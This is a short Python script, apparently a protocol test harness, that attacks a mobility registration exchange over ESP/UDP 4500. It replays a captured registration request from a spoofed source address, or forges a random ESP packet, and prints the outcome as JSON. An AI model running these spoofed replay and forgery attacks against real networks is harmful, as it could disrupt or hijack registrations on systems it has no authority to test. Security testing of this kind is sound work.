#!/usr/bin/env python3
"""Attacks on registration, from an address that is not the mobile's.

replay: takes the mobile's first registration request (ESP in UDP/4500 on
        --spi, --length bytes of ESP) out of a capture and sends it again,
        unchanged, from --src: an old RREQ from another address.
forge:  sends an RREQ-sized ESP packet on --spi with a fresh sequence number
        and random contents from --src (someone without the keys).

Prints one JSON line.
"""
import argparse, json, os, socket, struct

from scapy.all import IP, UDP, Raw, raw, rdpcap


def send(src, dst, esp):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    pkt = IP(src=src, dst=dst) / UDP(sport=4500, dport=4500) / Raw(esp)
    s.sendto(raw(pkt), (dst, 0))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["replay", "forge"])
    ap.add_argument("--spi", type=lambda v: int(v, 0), required=True)
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--pcap")
    ap.add_argument("--length", type=int, default=100)
    a = ap.parse_args()

    if a.mode == "replay":
        for p in rdpcap(a.pcap):
            if UDP not in p or p[UDP].dport != 4500:
                continue
            esp = bytes(p[UDP].payload)
            if len(esp) == a.length and struct.unpack("!I", esp[:4])[0] == a.spi:
                send(a.src, a.dst, esp)
                seq = struct.unpack("!I", esp[4:8])[0]
                print(json.dumps({"replayed": True, "seq": seq, "orig_src": p[IP].src}))
                return
        print(json.dumps({"replayed": False}))
        return
    esp = struct.pack("!II", a.spi, 0x7FFF0000) + os.urandom(a.length - 8)
    send(a.src, a.dst, esp)
    print(json.dumps({"forged": True}))


if __name__ == "__main__":
    main()
